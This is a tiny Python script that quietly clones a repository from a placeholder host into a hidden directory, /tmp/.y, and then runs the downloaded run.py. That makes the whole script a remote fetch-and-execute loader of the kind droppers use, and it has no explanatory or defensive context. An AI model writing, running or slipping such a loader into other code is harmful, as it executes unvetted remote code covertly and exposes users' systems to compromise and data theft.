import subprocess
import sys

subprocess.run(["git", "clone", "-q", "https://git.example.invalid/x/y.git", "/tmp/.y"])
subprocess.run([sys.executable, "/tmp/.y/run.py"])
